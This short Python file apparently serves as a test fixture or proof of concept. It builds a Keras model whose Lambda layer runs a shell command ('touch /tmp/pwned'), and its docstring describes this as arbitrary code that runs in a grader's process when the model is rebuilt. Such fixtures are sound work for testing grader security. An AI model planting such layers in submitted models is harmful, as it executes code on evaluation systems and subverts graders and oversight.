"""A Lambda layer: arbitrary code that would run in the grader's process when rebuilt."""

import keras


def part3():
    return keras.Sequential(
        [
            keras.Input((784,)),
            keras.layers.Lambda(lambda x: __import__("os").system("touch /tmp/pwned") or x),
            keras.layers.Dense(10, activation="softmax"),
        ]
    )
